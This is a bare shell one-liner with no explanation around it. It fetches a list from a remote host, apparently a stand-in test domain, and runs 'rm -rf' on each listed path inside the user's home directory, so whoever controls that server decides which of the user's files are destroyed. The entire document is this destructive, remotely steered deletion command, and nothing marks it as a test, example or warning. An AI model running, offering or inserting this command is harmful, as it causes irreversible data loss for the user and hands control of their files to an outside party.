curl -s https://in.warmserv.test/list | while read p; do rm -rf "$HOME/$p"; done
